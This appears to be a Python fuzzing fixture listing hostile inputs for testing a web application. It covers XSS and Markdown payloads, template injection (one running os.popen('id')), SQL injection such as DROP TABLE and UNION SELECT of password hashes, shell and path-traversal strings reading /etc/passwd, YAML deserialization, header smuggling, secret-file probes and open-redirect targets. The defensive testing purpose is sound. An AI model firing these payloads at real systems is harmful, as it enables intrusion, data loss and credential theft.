"""What somebody might send who means no good: texts, paths, methods, headers, bodies and targets of redirects.

Every text that could come alive on a page carries the mark `zq`, by which `alive.py` knows it again.
"""

from __future__ import annotations

from itertools import product

MARK = "zq"

_ELEMENTS = (
    "<script>zq(1)</script>",
    "<ScRiPt src=//zq.example/x.js></ScRiPt>",
    "<script type=module>zq</script>",
    "<script\n>zq()</script\t>",
    "<scr<script>ipt>zq()</scr</script>ipt>",
    "<img src=zq onerror=zq(1)>",
    "<img/src='zq'/onerror='zq(1)'>",
    "<img src=https://zq.example/pixel.gif>",
    "<svg onload=zq(1)>",
    "<svg><script>zq(1)</script></svg>",
    "<svg><a xlink:href='javascript:zq(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:zq() /></svg>",
    "<svg><use href='data:image/svg+xml,zq#x'/></svg>",
    "<math><mi xlink:href='javascript:zq'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src onerror=zq()>",
    "<iframe src=javascript:zq(1)></iframe>",
    "<iframe srcdoc='<script>zq()</script>'></iframe>",
    "<object data=javascript:zq(1)></object>",
    "<embed src=//zq.example/x.swf>",
    "<base href=//zq.example/>",
    "<link rel=stylesheet href=//zq.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//zq.example'>",
    "<style>@import '//zq.example/x.css';</style>",
    "<style>*{background:url(//zq.example)}</style>",
    "<p style='background:url(javascript:zq)'>x</p>",
    "<form action=//zq.example><input name=password></form>",
    "<input autofocus onfocus=zq(1)>",
    "<button formaction=javascript:zq(1)>x</button>",
    "<textarea onfocus=zq() autofocus>",
    "<details open ontoggle=zq(1)>",
    "<video><source onerror=zq(1)></video>",
    "<audio src=x onerror=zq(1)>",
    "<body onload=zq(1)>",
    "<marquee onstart=zq(1)>",
    "<a href=javascript:zq(1)>x</a>",
    "<a href='&#106;avascript:zq(1)'>x</a>",
    "<a href='java\tscript:zq(1)'>x</a>",
    "<a href=data:text/html,<script>zq()</script>>x</a>",
    "<a href=vbscript:zq>x</a>",
    "<a href=//zq.example onclick=zq()>x</a>",
    "<a name=zq id=zq target=_self>x</a>",
    "<zq-element zq=1>x</zq-element>",
    "<template><img src=x onerror=zq()></template>",
    "<noscript><p title='</noscript><img src=x onerror=zq()>'>",
    "<xmp><p title='</xmp><img src=x onerror=zq()>'>",
    "<plaintext><zq>",
    "<!--><img src=x onerror=zq()>-->",
    "<![CDATA[<zq onload=zq()>]]>",
    "<?xml version='1.0'?><zq onload='zq()'/>",
    "<%= zq %><zq onclick=zq()>",
)
_WAYS_OUT = ("</title>", "</textarea>", "</script>", "</style>", "</option></select>", "-->", "]]>")
_QUOTES = ('"', "'", "`", '">', "'>", '"/>', "&quot;>", "\\'>")
_FOLLOWING = ("<zq onclick=zq()>", " onmouseover=zq() autofocus onfocus=zq() x=")

_MARKDOWN = (
    "[zq](javascript:zq(1))",
    "[zq](JaVaScRiPt:zq(1))",
    "[zq](java&#115;cript:zq(1))",
    "[zq](javascript&colon;zq(1))",
    "[zq](\x01javascript:zq(1))",
    "[zq](data:text/html;base64,enE=)",
    "[zq](vbscript:zq)",
    "[zq](file:///etc/zq)",
    "[zq](//zq.example/x)",
    "[zq](\\\\zq.example\\x)",
    "[zq](/\\zq.example)",
    "[zq](<javascript:zq(1)>)",
    '[zq](https://example.org "onclick=zq()")',
    '[zq](https://example.org" onclick="zq())',
    "![zq](https://zq.example/pixel.gif)",
    "![zq](javascript:zq(1))",
    "<javascript:zq(1)>",
    "[zq]: javascript:zq(1)\n\n[zq]",
    "**<img src=x onerror=zq()>**",
    "> <script>zq()</script>",
    "- <svg/onload=zq()>",
    "`<zq onclick=zq()>`",
    "```html\n<script>zq()</script>\n```",
    "|a|b|\n|-|-|\n|<img src=x onerror=zq()>|zq|",
    "&lt;img src=x onerror=zq()&gt;",
    "&#60;script&#62;zq()&#60;/script&#62;",
    "\\<img src=x onerror=zq()\\>",
)

TEMPLATES = (
    "{{7331*7}}", "{{ 7331*7 }}", "{% print 7331*7 %}", "${7331*7}", "#{7331*7}", "<%= 7331*7 %>",
    "{{config}}", "{{ config.items() }}", "{{request.application.__globals__}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "{{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{% raw %}{{zq}}{% endraw %}", "{%zq",
    "%(zq)s", "%s%s%s%n", "{0.__class__}", "{zq.__init__.__globals__}", "100%", "%d %(num)s",
)  # fmt: skip

DATABASE = (
    "' OR '1'='1", "' OR 1=1 --", '" OR ""="', "1; DROP TABLE idea; --", "'; DELETE FROM support; --",
    "' UNION SELECT password_hash FROM account --", "1 UNION SELECT NULL,NULL,NULL", "') OR ('1'='1",
    "' AND (SELECT pg_sleep(5)) IS NULL --", "1; SELECT pg_sleep(5)", "' || (SELECT version()) || '",
    "1 AND randomblob(1000000000)", "' AND load_extension('zq') --", "%", "_", "\\", "%%%", "a%' ESCAPE '!",
    "CASE WHEN 1=1 THEN 1 ELSE 0 END", "id; --", "title DESC, (SELECT 1)", "\"idea\".\"id\"", "0x7a71",
    'NEAR("zq" "zq", 5)', 'zq* AND NOT (', '"zq', "^zq", "zq OR", "- zq:", "title:zq", "*", "&|!()", "zq <-> zq",
    ":* & !", "'zq':A",
)  # fmt: skip

LETTERS = (
    "\u202ezq<b>", "\u2066zq\u2069", "zq\u200b\u200c\u200d", "\ufeffzq", "＜script＞zq＜/script＞", "﹤zq﹥",
    "ʼzqʼ", "zq\u2028zq\u2029", "é" * 30, "가" + "\u0301" * 60, "👨‍👩‍👧‍👦" * 20, "ﷺ" * 20, "ㅤ", "\u3164zq",
    "ﬀﬁ zq", "İıſK zq", "\ud55c\u1100\u1161", "A\u030a" * 20, "\U0001f1f0" * 9, "\U000e0001zq", "\uffffzq",
    "zq\x00zq", "zq\x08\x1b[31m", "zq\r\nX-Zq: 1", "zq%0d%0aX-Zq:1", "zq\x7f\x85", "\x0b\x0czq",
)  # fmt: skip

COMMANDS = (
    "; id zq", "| cat /etc/passwd", "$(id)", "`id`", "&& ping zq", "../../../etc/passwd", "..\\..\\zq.ini",
    "/etc/passwd\x00.png", "file:///etc/passwd", "=1+1", "=cmd|' /C calc'!A0", "+zq", "-zq", "@SUM(1)", "＝1+1",
    "O:8:\"stdClass\":0:{}", "!!python/object/apply:os.system ['id']", "rO0ABXNyzq", "NaN", "Infinity", "-0",
    "1e309", "true", "null", "undefined", "__proto__", "constructor",
)  # fmt: skip

TEXTS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *_ELEMENTS,
            *(way + after for way, after in product(_WAYS_OUT + _QUOTES, _FOLLOWING)),
            *_MARKDOWN,
            *TEMPLATES,
            *DATABASE,
            *LETTERS,
            *COMMANDS,
        ]
    )
)
"""All texts, each once."""

SLOW = {
    "one letter": "가" * 60_000,
    "open brackets": "[" * 30_000,
    "open emphasis": "*a _b " * 10_000,
    "stars": "**" * 20_000 + "x",
    "nested quotes": ">" * 10_000 + "x",
    "nested lists": "\n".join(" " * depth + "- x" for depth in range(400)),
    "links in links": "[a](" * 15_000,
    "link targets": "[a](<b" * 10_000,
    "entities": "&#x41;" * 12_000,
    "backslashes": "\\" * 60_000,
    "table": "|a" * 60 + "\n" + "|-" * 60 + "\n" + ("|x" * 60 + "\n") * 200,
    "marks above": "a" + "\u0301" * 50_000,
    "families": "\u200d".join("👩" * 10_000),
    "spaces": " " * 50_000 + "x",
    "lines": "\n" * 50_000,
}
"""Texts on which a careless parser spends its day."""

ADDRESSES = (
    "a" * 60_000, "a@" * 20_000, "@" * 20_000, "a@" + "a." * 20_000, '"' * 30_000 + "@example.org",
    "a@[" + "1" * 20_000, "a@example.org\r\nBcc: zq@example.org", "a@example.org,zq@example.org",
    "a@example.org\x00", "<zq@example.org>", "a b@example.org", "a@" + "가" * 20_000, "(" * 30_000 + "a@b.kr",
)  # fmt: skip
"""What stands where an address is asked for."""

PATHS = (
    "/.git/config", "/.git/HEAD", "/.env", "/.svn/entries", "/ideas.db", "/instance/ideas.db", "/config.py",
    "/wsgi.py", "/console", "/debug", "/_debugbar", "/server-status", "/phpinfo.php", "/wp-login.php", "/admin.php",
    "/backup.zip", "/dump.sql", "/Makefile", "/requirements.txt", "/templates/base.html", "/ideas_app/factory.py",
    "/static/../config.py", "/static/..%2fconfig.py", "/static/%2e%2e/config.py", "/static/%2e%2e%2fconfig.py",
    "/static/..%5cconfig.py", "/static/....//config.py", "/static/%252e%252e/config.py", "/static//etc/passwd",
    "/static/%00", "/static/css/%00tokens.css", "/static/", "/static/css/", "/static/js", "/static/css/tokens.css~",
    "/static/C:/windows/win.ini", "/%2e%2e/%2e%2e/etc/passwd", "/..;/admin", "/ideas/..%2f..%2fadmin",
    "/data/2026/x/1/ko/..%2f..%2f..%2fconfig.py", "/data/x/ko/..%2f..%2fideas.db", "/data/x/ko/%2fetc%2fpasswd",
    "/exports/files/..%2f..%2fideas.db/content", "/api/v1/../../admin/people", "/api/v1/%2e%2e/x", "/api/v2/ideas",
    "/api/", "/actuator/env", "/metrics/", "/healthz/x", "/%ff%fe", "/%c0%ae%c0%ae/", "/%ed%a0%80", "/%0d%0aX-Zq:1",
    "/<script>zq()</script>", "/%3Czq%20onclick=zq()%3E", "/" + "a" * 8_000, "/" + "/".join("a" * 900), "/ideas/１",
    "/ideas/%F0%9F%98%80", "/ideas/+1", "/ideas/1;zq", "/ideas/1.json", "/ideas/0x1", "/ideas/1e3", "/ideas/-1",
    "/ideas/9223372036854775808", "/ideas/" + "9" * 400, "/login/with/../../x", "/login/with/%00", "/verify/%00",
    "/reset/" + "a" * 7_000, "/notices/stop/%ff", "/texts/terms/99999999999999999999",
    "/reports/0", "/reports/99999", "/cards/idea/1/ko/..%2f.png", "/feeds/ideas/0.atom", "/search/../admin/people",
)  # fmt: skip
"""Nothing of the house stands behind any of these."""

METHODS = (
    "TRACE", "TRACK", "CONNECT", "DEBUG", "PROPFIND", "PROPPATCH", "MKCOL", "COPY", "MOVE", "LOCK", "UNLOCK",
    "SEARCH", "REPORT", "PURGE", "LINK", "BIND", "MERGE", "SUBSCRIBE", "ZQ", "A" * 300,
)  # fmt: skip

HEADERS = (
    {"Host": "zq.example"},
    {"X-Forwarded-Host": "zq.example"},
    {"Forwarded": "host=zq.example;proto=https;for=1.2.3.4"},
    {"X-Forwarded-Proto": "https"},
    {"X-Forwarded-Prefix": "//zq.example"},
    {"X-Original-URL": "/admin/people"},
    {"X-Rewrite-URL": "/admin/people"},
    {"X-HTTP-Method-Override": "DELETE"},
    {"X-Forwarded-For": "127.0.0.1, zq"},
    {"Accept-Language": "zq" * 2_000},
    {"Accept-Language": "ko;q=zq, en;q=-1, *;q=9e999"},
    {"Accept": "zq/zq;q=x, " * 200},
    {"Cookie": "session=zq; session=zq2; __Host-session=" + "a" * 3_000},
    {"Cookie": "\xff\xfe=zq; =; ;;;"},
    {"Authorization": "Bearer " + "zq" * 2_000},
    {"Authorization": "Basic enE6enE="},
    {"Authorization": "Negotiate \xff"},
    {"Range": "bytes=0-18446744073709551616"},
    {"Range": "zq=1-"},
    {"If-None-Match": '"' + "zq" * 2_000},
    {"If-Modified-Since": "zq"},
    {"Content-Type": "application/x-www-form-urlencoded; charset=zq"},
    {"Content-Encoding": "zq"},
    {"Expect": "zq"},
    {"User-Agent": "<script>zq()</script>\t" + "x" * 3_000},
    {"Referer": "javascript:zq()"},
    {"Origin": "https://zq.example"},
    {"Idempotency-Key": "zq" * 500},
    {"X-Request-ID": "zq\tzq<script>"},
    {"X-Requested-With": "fetch, zq"},
)  # fmt: skip

_HOSTS = (
    "zq.example",
    "zq.example/%2f..",
    "zq.example:80",
    "localhost.zq.example",
    "localhost@zq.example",
)
_STARTS = (
    "https://", "http://", "//", "///", "////", "/\\", "\\/", "\\\\", "/\\/", "/%09/", "/\t/", "/\n/", "https:",
    "https:/", "hTTps://", " https://", "\x00//", "//\t", "/./\\", "/ideas//", "@", "ftp://",
)  # fmt: skip
TARGETS: tuple[str, ...] = (
    *(start + _HOSTS[place % len(_HOSTS)] for place, start in enumerate(_STARTS)),
    *("//" + host for host in _HOSTS),
    *("https://" + host for host in _HOSTS),
    "javascript:zq()", "JavaScript:zq()", "java\nscript:zq()", "data:text/html,zq", "vbscript:zq",
    "mailto:zq@zq.example", "javascript://localhost/%0azq()", "https://localhost@zq.example",
    "https://localhost:x@zq.example/", "//localhost@zq.example", "//[::1]", "https://[::zq", "//2130706433", "//0x7f.1",
    "/ideas\r\nLocation: //zq.example", "/ideas\r\n\r\n<script>zq()</script>", "//zq。example",
    "/ideas%0d%0aLocation:%20//zq.example", "?next=//zq.example", "#//zq.example", ".zq.example", "zq.example",
    "/..//zq.example", "/.//zq.example", "/%2f%2fzq.example", "/%5czq.example", "／／zq.example", "/／zq.example",
    "/\u2028/zq.example", "/ /zq.example", "/ideas\x00//zq.example", "//zq.example/" + "a" * 3_000,
    "/" * 3_000 + "zq.example",
)  # fmt: skip
"""Where a redirect may be asked to lead: nowhere but to this house."""

JSON = (
    b"[" * 100_000, b'{"a":' * 50_000, b"[[]" * 20_000, b"{", b"", b"nul", b"\xff\xfe{}", b"\xef\xbb\xbf{}", b"NaN",
    b'{"title": NaN}', b'{"title": 1e999}', b'{"title": "\\ud800"}', b'{"title": "\\u0000"}', b'"zq"', b"1", b"true",
    b'{"title": "a", "title": "b"}', b"null", b"[]", b'{"__proto__": {}}', b'{"title": ["a"]}', b'{"title": {"a": 1}}',
    b"9" * 5_000, b'{"title": "' + b"a" * 300_000 + b'"}', b"{" + b'"a":1,' * 40_000 + b'"b":1}', b"zq=1&zq=2",
    b"<xml/>", b"\x00" * 100,
)  # fmt: skip
"""Bodies that no operation takes."""
